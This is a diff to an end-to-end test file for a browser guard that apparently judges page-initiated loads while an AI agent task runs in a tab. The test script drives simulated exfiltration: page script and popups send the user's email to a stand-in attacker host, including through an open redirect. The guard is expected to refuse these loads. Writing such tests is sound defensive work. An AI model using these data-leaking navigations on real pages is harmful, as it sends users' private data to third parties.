@@ -5,8 +5,9 @@
  *   site is stopped, and so is a new window it opens with that data;
  * - the user's own loads in the same tab and in new tabs (an address typed: the browser starts it) go at once,
  *   data or not, and a link the user opens in a new tab loads after one round trip to the worker;
- * - the cost, printed: a page's load in the watched tab, a link opened in a new tab, with and without a task.
- * Attacks that wait until the approved action settled: attacks/later.ts (redteam-attacks.e2e.ts).
+ * - the cost, printed: a load the page makes in the watched tab, and a link opened in a new tab, with and without
+ *   a task watching.
+ * The attacks that wait until the approved action settled are in attacks/later.ts (redteam-attacks.e2e.ts).
  */
 import type { Page } from 'puppeteer';
 import { afterAll, beforeAll, expect, it } from 'vitest';
@@ -43,7 +44,9 @@ const decisions = async (): Promise<string[]> =>
     )) as any[]
   ).map((d) => `${d.tool}:${d.verdict}${process.env.DEBUG_LOADS ? ` ${d.reason}` : ''}`);
 const canaryGot = (path: string) => h.servers.canary.requests.some((r) => r.url.startsWith(path));
+const step = (what: string) => process.env.DEBUG_LOADS && console.log(new Date().toISOString().slice(11, 23), what);
 const median = (xs: number[]) => [...xs].sort((a, b) => a - b)[Math.floor(xs.length / 2)]!;
+
 /** Time for the page's own script to load a page of its site and for it to finish loading. */
 async function pageMadeLoad(page: Page, url: string): Promise<number> {
   const t = performance.now();
@@ -92,23 +95,29 @@ it("while a task works in the tab, the page's own loads are judged and the user'
   // Without a task: the cost baseline.
   const before = { load: [] as number[], link: [] as number[] };
   for (let i = 0; i < 5; i++) {
+    step(`before ${i}`);
     before.load.push(await pageMadeLoad(h.page, `${notes}?n=${i}`));
+    step('link');
     before.link.push(await newTabLink(h.page, `${o.ATTACKER}/w/survey.html?before=${i}`, `/w/survey.html?before=${i}`));
   }
 
+  step('task waiting on the model');
   const gate = await taskWaitingOnModel();
+  step('gate reached');
   await h.page.bringToFront();
 
   // The page's script carries the notes' data to another site: stopped before the request leaves.
   await h.page.evaluate((u) => {
     location.href = u;
   }, `${o.ATTACKER}/pagemade?e=${EMAIL}`);
+  step("await until('the refusal in");
   await until('the refusal in the decision log', async () =>
     (await decisions()).some((d) => d.startsWith('page load:deny')),
   );
   // A new window it opens with that data (noopener: the popup cannot reach back): stopped too.
   await h.page.goto(notes, { waitUntil: 'load' });
   await h.page.evaluate((u) => void window.open(u, '_blank', 'noopener'), `${o.ATTACKER}/popup?e=${EMAIL}`);
+  step("await until('the second refusa");
   await until(
     'the second refusal',
     async () => (await decisions()).filter((d) => d.startsWith('page load:deny')).length >= 2,
@@ -122,6 +131,7 @@ it("while a task works in the tab, the page's own loads are judged and the user'
     during.link.push(await newTabLink(h.page, `${o.ATTACKER}/w/survey.html?during=${i}`, `/w/survey.html?during=${i}`));
   }
 
+  step('// The user types');
   // The user types an address with the same data into this tab, and into a new tab: both go, unjudged.
   await h.page.goto(`${o.ATTACKER}/typed?e=${EMAIL}`);
   // A new tab the user opens (the new-tab page, where they type an address) is not touched either.
@@ -141,6 +151,7 @@ it("while a task works in the tab, the page's own loads are judged and the user'
   expect(canaryGot('/pagemade') || canaryGot('/popup')).toBe(false);
   expect((await decisions()).filter((d) => d.startsWith('page load:deny'))).toHaveLength(2);
 
+  step('gate.release();');
   gate.release();
   await until('the task to end', async () => (await sessionView(h.ext, h.tabId)).status !== 'running');
   const ms = (xs: number[]) => `${Math.round(median(xs))} ms`;
@@ -201,49 +212,6 @@ it("a page framing our palette page does not hang the tab's loads while a task w
   await h.page.goto(notes, { waitUntil: 'load' }).catch(() => undefined); // the paused request itself is aborted
   await until('the next page to load', async () => (await tab()) === `complete ${notes}`);
   expect(canaryGot('/framed-leak')).toBe(false);
-  gate.release();
-  await until('the task to end', async () => (await sessionView(h.ext, h.tabId)).status !== 'running');
-}, 60_000);
-
-it('a popup the guard judged stays guarded: its opener cannot load it again with the data', async () => {
-  // A new window's first load is blocked and judged. The page keeps a handle on the window (no noopener) and
-  // loads it again a moment later: that load is judged too, whether the first was let through (a harmless page)
-  // or refused (the tab stays on Chrome's error page). Before, a tab once judged was out of the rules for good.
-  const o = ctxOf(h);
-  await h.page.goto(o.page(o.VICTIM, 'notes.html'), { waitUntil: 'load' });
-  const refusals = async () => (await decisions()).filter((d) => d.startsWith('page load:deny')).length;
-  // Opens a window kept under `name`, or loads the one already kept there again.
-  const load = (name: string, url: string) =>
-    h.page.evaluate(
-      (n, u) => {
-        const w = globalThis as unknown as Record<string, Window | null>;
-        if (w[n]) w[n].location.href = u;
-        else w[n] = window.open(u);
-      },
-      name,
-      url,
-    );
-  // A window the page opened before the task began (such tabs were left out of the rules as the user's).
-  await load('early', `${o.ATTACKER}/w/survey.html?early=1`);
-  await until('the early popup to load', () => canaryGot('/w/survey.html?early=1'));
-  await h.page.bringToFront();
-  const gate = await taskWaitingOnModel();
-  const before = await refusals();
-  await load('harmless', `${o.ATTACKER}/w/survey.html?pop=1`);
-  await until('the harmless popup to load', () => canaryGot('/w/survey.html?pop=1'));
-  await load('refused', `${o.ATTACKER}/first?e=${EMAIL}`);
-  await until('the first refusal', async () => (await refusals()) === before + 1);
-  await load('harmless', `${o.ATTACKER}/again?e=${EMAIL}`);
-  await load('refused', `${o.ATTACKER}/again2?e=${EMAIL}`);
-  await load('early', `${o.ATTACKER}/again3?e=${EMAIL}`);
-  await until('three more refusals', async () => (await refusals()) === before + 4);
-  // The site's own open redirect, opened in a new window: the hop to the attacker is judged too.
-  await load('redirect', `${o.VICTIM}/redirect?to=${encodeURIComponent(`${o.ATTACKER}/hop?e=${EMAIL}`)}`);
-  await until('the hop refused', async () => (await refusals()) === before + 5);
-  expect(['/first', '/again', '/again2', '/again3', '/hop'].filter(canaryGot)).toEqual([]);
-  for (const p of await h.ext.browser.pages())
-    if (p.url().includes(o.ATTACKER) || p.url().startsWith('chrome-error')) await p.close();
-  await h.page.bringToFront();
   gate.release();
   await until('the task to end', async () => (await sessionView(h.ext, h.tabId)).status !== 'running');
 }, 60_000);
